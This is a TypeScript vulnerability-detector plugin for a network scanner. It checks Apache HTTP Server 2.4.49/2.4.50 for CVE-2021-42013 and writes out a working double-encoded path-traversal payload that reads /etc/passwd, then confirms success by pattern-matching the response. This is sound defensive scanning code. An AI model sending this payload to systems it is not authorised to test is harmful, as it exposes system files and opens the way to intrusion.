import type {
  DetectionReport,
  DetectionReportList,
  NetworkService,
  PluginInfo,
  TargetInfo,
  Vulnerability,
} from '@pathprobe/shared-types'
import type { Clock } from '../clock'
import { HttpTransportError } from '../errors'
import { get } from '../httpClient'
import { buildWebApplicationRootUrl, isWebService } from '../networkService'
import { getErrorMessage } from '../utils'
import type { DetectorDeps, VulnDetector } from './types'

const HTTP_OK = 200
const HTTP_FORBIDDEN = 403

// Doble encoding: el primer decode deja `%2e`, que el servidor vuelve a decodificar a `.`
export const VULNERABILITY_PATH =
  'cgi-bin/.%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd'

const VULNERABLE_VERSIONS = ['Apache/2.4.49', 'Apache/2.4.50']
const REQUIRE_ALL_DENIED_MESSAGE =
  "You don't have permission to access this resource."
const PASSWD_PATTERN = /root:[x*]:0:0:/

export const pluginInfo: PluginInfo = {
  type: 'VULN_DETECTION',
  name: 'ApacheHttpServerCVE202142013VulnDetector',
  version: '1.0',
  description:
    'This detector checks for Apache HTTP Server 2.4.49 and 2.4.50 ' +
    'path traversal and remote code execution vulnerability (CVE-2021-42013).',
  author: 'pathprobe contributors',
}

/** Envía la petición de traversal y decide si el servicio es vulnerable */
export async function isServiceVulnerable(
  service: NetworkService,
  { httpClient, logger }: Pick<DetectorDeps, 'httpClient' | 'logger'>
): Promise<boolean> {
  const targetUri = buildWebApplicationRootUrl(service) + VULNERABILITY_PATH
  try {
    const response = await httpClient.send(get(targetUri))
    const server = response.header('Server')
    if (!server || !VULNERABLE_VERSIONS.some((v) => server.includes(v))) {
      return false
    }
    const body = response.bodyString
    // require all denied
    if (
      response.status === HTTP_FORBIDDEN &&
      body.includes(REQUIRE_ALL_DENIED_MESSAGE)
    ) {
      return false
    }
    return response.status === HTTP_OK && PASSWD_PATTERN.test(body)
  } catch (error) {
    if (!(error instanceof HttpTransportError)) throw error
    logger.warn(`No se pudo consultar '${targetUri}'.`, getErrorMessage(error))
    return false
  }
}

const vulnerability: Vulnerability = {
  mainId: Object.freeze({
    publisher: 'TSUNAMI_COMMUNITY',
    value: 'CVE_2021_42013',
  }),
  severity: 'HIGH',
  title:
    'Path Traversal and Remote Code Execution in ' +
    'Apache HTTP Server 2.4.49 and 2.4.50',
  description:
    'It was found that the fix for CVE-2021-41773 in Apache HTTP Server 2.4.50 ' +
    'was insufficient. An attacker could use a path traversal attack to ' +
    'map URLs to files outside the directories configured by Alias-like ' +
    'directives.\n' +
    'If files outside of these directories are not protected by the ' +
    'usual default configuration "require all denied", these requests ' +
    'can succeed. If CGI scripts are also enabled for these aliased pathes, ' +
    'this could allow for remote code execution.\n' +
    'https://httpd.apache.org/security/vulnerabilities_24.html\n' +
    'https://cve.mitre.org/cgi-bin/cvename.cgi?name=CVE-2021-42013',
  recommendation: 'Update 2.4.51 released.',
}
Object.freeze(vulnerability)

export function buildDetectionReport(
  targetInfo: TargetInfo,
  vulnerableService: NetworkService,
  clock: Clock
): DetectionReport {
  const report: DetectionReport = {
    targetInfo,
    networkService: vulnerableService,
    detectionTimestamp: clock.now().getTime(),
    detectionStatus: 'VULNERABILITY_VERIFIED',
    vulnerability,
  }
  return Object.freeze(report)
}

export function createApacheCve202142013Detector(
  deps: DetectorDeps
): VulnDetector {
  return {
    pluginInfo,
    async detect(targetInfo, matchedServices): Promise<DetectionReportList> {
      const detectionReports: DetectionReport[] = []
      // Secuencial: una petición por servicio, sin reintentos
      for (const service of matchedServices.filter(isWebService)) {
        if (await isServiceVulnerable(service, deps)) {
          detectionReports.push(
            buildDetectionReport(targetInfo, service, deps.clock)
          )
        }
      }
      return { detectionReports }
    },
  }
}
